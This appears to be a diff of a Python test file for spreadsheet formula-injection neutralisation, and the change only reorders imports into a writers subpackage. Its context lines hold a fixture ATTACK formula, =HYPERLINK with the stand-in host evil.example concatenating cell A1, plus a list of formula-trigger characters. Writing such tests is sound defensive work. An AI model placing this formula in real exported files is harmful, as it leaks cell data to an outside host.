@@ -13,9 +13,9 @@ from hypothesis import strategies as st
 
 from tastemaker.characters import strip_hostile
 from tastemaker.data import Dataset
-from tastemaker.data.formulas import neutralised, restored, risky_cells
 from tastemaker.data.readers import read
-from tastemaker.data.write import risky_cells_of, write
+from tastemaker.data.writers.canonical import risky_cells_of, write
+from tastemaker.data.writers.formulas import neutralised, restored, risky_cells
 
 STARTS = tuple("=+-@\t\r\n＝＋－＠")
 ATTACK = '=HYPERLINK("http://evil.example?"&A1,"Sale")'
